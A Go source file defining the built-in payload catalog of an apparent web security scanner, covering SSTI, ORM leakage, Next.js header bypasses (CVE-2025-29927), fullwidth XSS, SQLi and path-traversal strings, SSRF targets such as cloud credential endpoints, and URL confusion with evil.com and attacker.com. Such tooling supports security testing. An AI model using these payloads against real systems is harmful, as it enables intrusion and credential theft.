package payload

// Defaults returns the built-in catalog for every module. Each call builds
// fresh entries with fresh IDs; the registry seeds from this on first run
// and on per-module resets.
func Defaults() []*Entry {
	var out []*Entry
	out = append(out, sstiDefaults()...)
	out = append(out, ormDefaults()...)
	out = append(out, nextjsDefaults()...)
	out = append(out, unicodeDefaults()...)
	out = append(out, ssrfDefaults()...)
	out = append(out, parserDefaults()...)
	out = append(out, http2Defaults()...)
	out = append(out, etagDefaults()...)
	return out
}

func sstiDefaults() []*Entry {
	return []*Entry{
		defaultEntry(ModuleSSTI, "polyglot", `<%'${{/#{@}}%>{{`, "Error polyglot - triggers error in ALL 44 engines"),
		defaultEntry(ModuleSSTI, "polyglot", `p ">[[${{1}}]]`, "Non-error polyglot #1"),
		defaultEntry(ModuleSSTI, "polyglot", `<%=1%>@*#{1}`, "Non-error polyglot #2"),
		defaultEntry(ModuleSSTI, "polyglot", `{##}/*{{.}}*/`, "Non-error polyglot #3"),
		defaultEntry(ModuleSSTI, "polyglot", `${{<%[%'"}}%\`, "Classic fuzz string"),
		defaultEntry(ModuleSSTI, "polyglot", `{{7*7}}${7*7}<%=7*7%>#{7*7}{7*7}${{7*7}}`, "Math polyglot"),

		defaultEntry(ModuleSSTI, "error-trigger", `{{`, "Jinja2/Twig unclosed"),
		defaultEntry(ModuleSSTI, "error-trigger", `${`, "Freemarker/Java EL"),
		defaultEntry(ModuleSSTI, "error-trigger", `<%`, "ERB/JSP"),
		defaultEntry(ModuleSSTI, "error-trigger", `#{`, "Pebble/Thymeleaf"),
		defaultEntry(ModuleSSTI, "error-trigger", `{%`, "Jinja2 block"),
		defaultEntry(ModuleSSTI, "error-trigger", `{{7/0}}`, "Division by zero - Jinja2", "CVE-2025-1302"),
		defaultEntry(ModuleSSTI, "error-trigger", `${7/0}`, "Division by zero - Java EL"),
		defaultEntry(ModuleSSTI, "error-trigger", `<%=7/0%>`, "Division by zero - ERB"),

		engineDetect(ModuleSSTI, `{{7*'7'}}`, "7777777=Jinja2,49=Twig", "Jinja2 vs Twig differentiator"),
		engineDetect(ModuleSSTI, `${7*7}`, "49=Freemarker/JavaEL/Thymeleaf", "Java template engine detect"),
		engineDetect(ModuleSSTI, `<%= 7*7 %>`, "49=ERB", "ERB detection"),
		engineDetect(ModuleSSTI, `#{7*7}`, "49=Pebble/Thymeleaf", "Pebble/Thymeleaf detection"),
		engineDetect(ModuleSSTI, `{7*7}`, "49=Smarty", "Smarty detection"),
		engineDetect(ModuleSSTI, `${{7*7}}`, "49=Thymeleaf", "Thymeleaf detection"),
		engineDetect(ModuleSSTI, `{{config}}`, "Config=Jinja2", "Jinja2 Flask config leak"),
		engineDetect(ModuleSSTI, `${.version}`, "version=Freemarker", "Freemarker version leak"),
		engineDetect(ModuleSSTI, `{{_self.env}}`, "Twig_Environment=Twig", "Twig environment leak"),
		engineDetect(ModuleSSTI, `#set($x=7*7)${x}`, "49=Velocity", "Velocity detection"),
		engineDetect(ModuleSSTI, `{{"meow".toUpperCase()}}`, "MEOW=Pebble", "Pebble string method"),

		defaultEntry(ModuleSSTI, "error-based-blind", `{{1/0}}`, "Boolean error: Jinja2 error-based blind (error side)"),
		defaultEntry(ModuleSSTI, "error-based-blind", `{{1/1}}`, "Boolean error: Jinja2 error-based blind (no-error side)"),
		defaultEntry(ModuleSSTI, "error-based-blind", `${1/0}`, "Java EL boolean error (error side)"),
		defaultEntry(ModuleSSTI, "error-based-blind", `${1/1}`, "Java EL boolean error (no-error side)"),
		defaultEntry(ModuleSSTI, "error-based-blind", `<%=1/0%>`, "ERB boolean error (error side)"),
		defaultEntry(ModuleSSTI, "error-based-blind", `<%=1/1%>`, "ERB boolean error (no-error side)"),
		defaultEntry(ModuleSSTI, "error-based-blind", `{{config.__class__}}`, "Jinja2 error leaks class name"),
		defaultEntry(ModuleSSTI, "error-based-blind", `{{config.SECRET_KEY.__class__}}`, "Jinja2 deeper error-based data leak"),
	}
}

// SensitiveFields are field names worth probing for ORM filter leakage.
var SensitiveFields = []string{
	"password", "passwd", "pass", "hash", "password_hash",
	"password_digest", "secret", "token", "api_key", "apikey",
	"api_token", "access_token", "refresh_token", "salt", "otp",
	"totp_secret", "tfa_secret", "two_factor_secret", "resetToken",
	"reset_token", "password_reset_token", "reset_password_token",
	"secret_key", "private_key", "encryption_key", "ssn",
	"credit_card", "card_number", "session_token", "session_key",
	"auth_token", "webhook_secret", "signing_secret", "client_secret",
}

// RelationalPrefixes are traversal prefixes for reaching sensitive fields
// through ORM relations.
var RelationalPrefixes = []string{
	"created_by__", "user__", "author__", "owner__", "admin__",
	"manager__", "assignee__", "reviewer__", "approver__", "creator__",
	"createdBy.", "user.", "author.", "owner.",
}

func ormDefaults() []*Entry {
	out := []*Entry{
		defaultEntry(ModuleORM, "orm-detect", `password__startswith=a`, "Django double-underscore startswith"),
		defaultEntry(ModuleORM, "orm-detect", `password__regex=^a`, "Django regex filter"),
		defaultEntry(ModuleORM, "orm-detect", `password__icontains=test`, "Django case-insensitive contains"),
		defaultEntry(ModuleORM, "orm-detect", `email__contains=@`, "Django contains on email"),
		defaultEntry(ModuleORM, "orm-detect", `created_by__password__startswith=a`, "Django relational traversal"),
		defaultEntry(ModuleORM, "orm-detect", `user__password__startswith=a`, "Django relational traversal"),
		defaultEntry(ModuleORM, "orm-detect", `{"password":{"startsWith":"a"}}`, "Prisma startsWith operator", "CVE-2023-30843"),
		defaultEntry(ModuleORM, "orm-detect", `{"password":{"not":""}}`, "Prisma not-empty filter"),
		defaultEntry(ModuleORM, "orm-detect", `{"password":{"contains":"a"}}`, "Prisma contains filter"),
		defaultEntry(ModuleORM, "orm-detect", `{"createdBy":{"password":{"startsWith":"a"}}}`, "Prisma relational traversal"),
		defaultEntry(ModuleORM, "orm-detect", `{"include":{"createdBy":true}}`, "Prisma include returns all fields"),
		defaultEntry(ModuleORM, "orm-detect", `$filter=Password gt 'a'`, "OData greater-than filter"),
		defaultEntry(ModuleORM, "orm-detect", `$filter=Password eq null`, "OData null check"),
		defaultEntry(ModuleORM, "orm-detect", `$filter=startswith(Password,'a')`, "OData startswith function"),
		defaultEntry(ModuleORM, "orm-detect", `$orderby=Password asc`, "OData ordering by sensitive field"),
		defaultEntry(ModuleORM, "orm-detect", `$expand=CreatedBy($select=Password)`, "OData expand+select"),
		defaultEntry(ModuleORM, "orm-detect", `$select=Password,Token,Secret`, "OData select sensitive fields"),
		defaultEntry(ModuleORM, "orm-detect", `q[password_start]=a`, "Ransack startswith (Rails)"),
		defaultEntry(ModuleORM, "orm-detect", `q[password_cont]=a`, "Ransack contains (Rails)"),
		defaultEntry(ModuleORM, "orm-detect", `q[reset_token_start]=a`, "Ransack reset token extraction"),
		defaultEntry(ModuleORM, "orm-detect", `q=password=~a`, "Harbor regex filter", "CVE-2025-30086"),
		defaultEntry(ModuleORM, "orm-detect", `q=salt=~a`, "Harbor salt leak", "CVE-2025-30086"),
	}
	for _, field := range SensitiveFields {
		out = append(out, defaultEntry(ModuleORM, "sensitive-fields", field,
			"Sensitive field name for ORM probing",
			"CVE-2023-22894", "CVE-2023-47117", "CVE-2025-64748"))
	}
	for _, prefix := range RelationalPrefixes {
		out = append(out, defaultEntry(ModuleORM, "relational-prefixes", prefix, "Relational traversal prefix"))
	}
	return out
}

func nextjsDefaults() []*Entry {
	return []*Entry{
		defaultEntry(ModuleNextJS, "nextjs-fingerprint", `/_next/static/`, "Static asset path"),
		defaultEntry(ModuleNextJS, "nextjs-fingerprint", `/__nextjs_original-stack-frame`, "Dev mode indicator"),
		defaultEntry(ModuleNextJS, "nextjs-fingerprint", `/_next/data/`, "Data routes"),
		defaultEntry(ModuleNextJS, "nextjs-fingerprint", `/_next/image`, "Image optimization"),

		defaultEntry(ModuleNextJS, "nextjs-headers", `x-middleware-prefetch: 1`, "Changes response to prefetch format", "CVE-2024-46982"),
		defaultEntry(ModuleNextJS, "nextjs-headers", `x-middleware-subrequest: middleware`, "Bypasses middleware entirely", "CVE-2025-29927"),
		defaultEntry(ModuleNextJS, "nextjs-headers", `x-middleware-subrequest: src/middleware`, "Alternate path for subrequest bypass", "CVE-2025-29927"),
		defaultEntry(ModuleNextJS, "nextjs-headers", `x-nextjs-data: 1`, "Forces data request format"),
		defaultEntry(ModuleNextJS, "nextjs-headers", `Rsc: 1`, "React Server Components stream"),
		defaultEntry(ModuleNextJS, "nextjs-headers", `Next-Router-State-Tree: %5B%22%22%5D`, "Router state manipulation"),
		defaultEntry(ModuleNextJS, "nextjs-headers", `Next-Router-Prefetch: 1`, "Prefetch behavior trigger"),
		defaultEntry(ModuleNextJS, "nextjs-headers", `x-invoke-status: 200`, "Internal status override"),
		defaultEntry(ModuleNextJS, "nextjs-headers", `x-invoke-path: /`, "Internal path override"),

		defaultEntry(ModuleNextJS, "nextjs-params", `__nextDataReq=1`, "Forces data request for cache poisoning", "CVE-2024-46982"),
		defaultEntry(ModuleNextJS, "nextjs-params", `_rsc=RANDOM`, "RSC param cache key pollution"),
		defaultEntry(ModuleNextJS, "nextjs-params", `__nextLocale=RANDOM`, "Locale param"),
	}
}

func unicodeDefaults() []*Entry {
	return []*Entry{
		defaultEntry(ModuleUnicode, "fullwidth-map", "＜", "Fullwidth < (U+FF1C)"),
		defaultEntry(ModuleUnicode, "fullwidth-map", "＞", "Fullwidth > (U+FF1E)"),
		defaultEntry(ModuleUnicode, "fullwidth-map", "＇", "Fullwidth ' (U+FF07)"),
		defaultEntry(ModuleUnicode, "fullwidth-map", "＂", "Fullwidth \" (U+FF02)"),
		defaultEntry(ModuleUnicode, "fullwidth-map", "／", "Fullwidth / (U+FF0F)"),
		defaultEntry(ModuleUnicode, "fullwidth-map", "＼", "Fullwidth \\ (U+FF3C)", "CVE-2025-52488"),
		defaultEntry(ModuleUnicode, "fullwidth-map", "．", "Fullwidth . (U+FF0E)", "CVE-2024-43093", "CVE-2025-52488"),
		defaultEntry(ModuleUnicode, "fullwidth-map", "＠", "Fullwidth @ (U+FF20)"),
		defaultEntry(ModuleUnicode, "fullwidth-map", "＝", "Fullwidth = (U+FF1D)"),
		defaultEntry(ModuleUnicode, "fullwidth-map", "（", "Fullwidth ( (U+FF08)"),
		defaultEntry(ModuleUnicode, "fullwidth-map", "）", "Fullwidth ) (U+FF09)"),
		defaultEntry(ModuleUnicode, "fullwidth-map", "；", "Fullwidth ; (U+FF1B)"),
		defaultEntry(ModuleUnicode, "fullwidth-map", "｜", "Fullwidth | (U+FF5C)"),
		defaultEntry(ModuleUnicode, "fullwidth-map", "＆", "Fullwidth & (U+FF06)"),
		defaultEntry(ModuleUnicode, "fullwidth-map", "＃", "Fullwidth # (U+FF03)"),

		defaultEntry(ModuleUnicode, "math-equivalent", "ⓐ", "Circled a (U+24D0)"),
		defaultEntry(ModuleUnicode, "math-equivalent", "ℌ", "Script capital H (U+210C)"),
		defaultEntry(ModuleUnicode, "math-equivalent", "ﬁ", "Ligature fi (U+FB01)"),
		defaultEntry(ModuleUnicode, "math-equivalent", "ℝ", "Double-struck R (U+211D)"),
		defaultEntry(ModuleUnicode, "math-equivalent", "ℂ", "Double-struck C (U+2102)"),
		defaultEntry(ModuleUnicode, "math-equivalent", "ⅇ", "Euler constant e (U+2147)"),
		defaultEntry(ModuleUnicode, "math-equivalent", "ⅈ", "Imaginary unit i (U+2148)"),
		defaultEntry(ModuleUnicode, "math-equivalent", "¹", "Superscript 1 (U+00B9)"),
		defaultEntry(ModuleUnicode, "math-equivalent", "²", "Superscript 2 (U+00B2)"),

		defaultEntry(ModuleUnicode, "attack-payloads",
			"＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞",
			"XSS via fullwidth <script>alert(1)</script>"),
		defaultEntry(ModuleUnicode, "attack-payloads",
			"．．／．．／ｅｔｃ／ｐａｓｓｗｄ",
			"Path traversal via fullwidth ../../etc/passwd"),
		defaultEntry(ModuleUnicode, "attack-payloads",
			"＼＼ａｔｔａｃｋｅｒ．ｃｏｍ＼ｓｈａｒｅ",
			"UNC path via fullwidth", "CVE-2025-52488"),
		defaultEntry(ModuleUnicode, "attack-payloads",
			"＇ ＯＲ ＇1＇＝＇1",
			"SQL injection via fullwidth"),
		defaultEntry(ModuleUnicode, "attack-payloads",
			"ａｄｍｉｎ",
			"Username collision via fullwidth 'admin'"),
	}
}

// SSRFParamNames are query parameter names commonly carrying URLs.
var SSRFParamNames = []string{
	"url", "link", "redirect", "callback", "next", "return", "dest",
	"target", "uri", "path", "continue", "window", "data", "reference",
	"site", "html", "val", "validate", "domain", "feed", "host", "port",
	"to", "out", "view", "dir", "show", "navigation", "open", "file",
	"doc", "pg", "style", "pdf", "template", "php_path", "img", "src",
	"redirect_uri", "return_url", "next_url", "callback_url", "goto",
	"forward", "location", "jump", "fetch", "load", "proxy", "endpoint",
}

func ssrfDefaults() []*Entry {
	var out []*Entry
	for _, param := range SSRFParamNames {
		out = append(out, defaultEntry(ModuleSSRF, "url-params", param, "URL parameter name for SSRF testing"))
	}
	out = append(out,
		defaultEntry(ModuleSSRF, "internal-targets", `http://127.0.0.1`, "Localhost"),
		defaultEntry(ModuleSSRF, "internal-targets", `http://localhost`, "Localhost hostname"),
		defaultEntry(ModuleSSRF, "internal-targets", `http://169.254.169.254/latest/meta-data/`, "AWS IMDS"),
		defaultEntry(ModuleSSRF, "internal-targets", `http://169.254.169.254/latest/meta-data/iam/security-credentials/`, "AWS IAM credentials"),
		defaultEntry(ModuleSSRF, "internal-targets", `http://metadata.google.internal/computeMetadata/v1/`, "GCP metadata"),
		defaultEntry(ModuleSSRF, "internal-targets", `http://169.254.169.254/metadata/instance?api-version=2021-02-01`, "Azure metadata"),
		defaultEntry(ModuleSSRF, "internal-targets", `http://100.100.100.200/latest/meta-data/`, "Alibaba Cloud metadata"),
		defaultEntry(ModuleSSRF, "internal-targets", `http://169.254.170.2/v2/credentials`, "AWS ECS credentials"),
	)
	return out
}

func parserDefaults() []*Entry {
	return []*Entry{
		defaultEntry(ModuleParser, "duplicate-key", `{"role":"user","role":"admin"}`, "First-wins vs last-wins role override"),
		defaultEntry(ModuleParser, "duplicate-key", `{"admin":false,"admin":true}`, "Boolean admin override"),
		defaultEntry(ModuleParser, "duplicate-key", `{"price":100,"price":0}`, "Price manipulation"),

		defaultEntry(ModuleParser, "content-type-confusion", `application/json`, "JSON to form-urlencoded swap"),
		defaultEntry(ModuleParser, "content-type-confusion", `application/x-www-form-urlencoded`, "Form to JSON swap"),
		defaultEntry(ModuleParser, "content-type-confusion", `text/xml`, "JSON to XML swap"),
		defaultEntry(ModuleParser, "content-type-confusion", `multipart/form-data`, "JSON to multipart swap"),

		defaultEntry(ModuleParser, "method-override-headers", `X-HTTP-Method-Override: PUT`, "Method override to PUT"),
		defaultEntry(ModuleParser, "method-override-headers", `X-HTTP-Method-Override: DELETE`, "Method override to DELETE"),
		defaultEntry(ModuleParser, "method-override-headers", `X-HTTP-Method-Override: PATCH`, "Method override to PATCH"),
		defaultEntry(ModuleParser, "method-override-headers", `X-Method-Override: PUT`, "X-Method-Override to PUT"),
		defaultEntry(ModuleParser, "method-override-headers", `X-HTTP-Method: DELETE`, "X-HTTP-Method to DELETE"),
		defaultEntry(ModuleParser, "method-override-headers", `_method=PUT`, "Rails-style body method override"),

		defaultEntry(ModuleParser, "url-parsing", `@evil.com`, "URL authority confusion"),
		defaultEntry(ModuleParser, "url-parsing", `\@evil.com`, "Backslash URL confusion"),
		defaultEntry(ModuleParser, "url-parsing", `#@evil.com`, "Fragment URL confusion"),
		defaultEntry(ModuleParser, "url-parsing", `..;/admin`, "Tomcat path traversal"),
		defaultEntry(ModuleParser, "url-parsing", `..%00/admin`, "Null byte traversal"),
		defaultEntry(ModuleParser, "url-parsing", `/%2e%2e/admin`, "Encoded dot traversal"),
		defaultEntry(ModuleParser, "url-parsing", `/..%252f..%252f`, "Double URL encoded traversal"),
	}
}

func http2Defaults() []*Entry {
	return []*Entry{
		defaultEntry(ModuleHTTP2, "connect-targets", `127.0.0.1:80`, "Localhost HTTP"),
		defaultEntry(ModuleHTTP2, "connect-targets", `127.0.0.1:443`, "Localhost HTTPS"),
		defaultEntry(ModuleHTTP2, "connect-targets", `127.0.0.1:8080`, "Localhost alt HTTP"),
		defaultEntry(ModuleHTTP2, "connect-targets", `127.0.0.1:8443`, "Localhost alt HTTPS"),
		defaultEntry(ModuleHTTP2, "connect-targets", `127.0.0.1:3000`, "Localhost Node.js"),
		defaultEntry(ModuleHTTP2, "connect-targets", `127.0.0.1:9090`, "Localhost proxy/admin"),
		defaultEntry(ModuleHTTP2, "connect-targets", `127.0.0.1:6379`, "Localhost Redis"),
		defaultEntry(ModuleHTTP2, "connect-targets", `127.0.0.1:5432`, "Localhost PostgreSQL"),
		defaultEntry(ModuleHTTP2, "connect-targets", `localhost:80`, "Localhost hostname HTTP"),
		defaultEntry(ModuleHTTP2, "connect-targets", `localhost:443`, "Localhost hostname HTTPS"),
		defaultEntry(ModuleHTTP2, "connect-targets", `localhost:8080`, "Localhost hostname alt HTTP"),
		defaultEntry(ModuleHTTP2, "connect-targets", `169.254.169.254:80`, "AWS IMDS HTTP", "CVE-2025-49630"),
		defaultEntry(ModuleHTTP2, "connect-targets", `169.254.169.254:443`, "AWS IMDS HTTPS"),
		defaultEntry(ModuleHTTP2, "connect-targets", `10.0.0.1:80`, "Internal network gateway"),
		defaultEntry(ModuleHTTP2, "connect-targets", `172.17.0.1:80`, "Docker host"),
		defaultEntry(ModuleHTTP2, "connect-targets", `192.168.1.1:80`, "Common LAN gateway"),
	}
}

func etagDefaults() []*Entry {
	return []*Entry{
		defaultEntry(ModuleETag, "cache-headers", `Cache-Control: no-store`, "Cache prevention header to check for"),
		defaultEntry(ModuleETag, "cache-headers", `Vary: Cookie`, "Vary header for cookie-based caching"),
		defaultEntry(ModuleETag, "cache-headers", `Vary: Authorization`, "Vary header for auth-based caching"),
	}
}
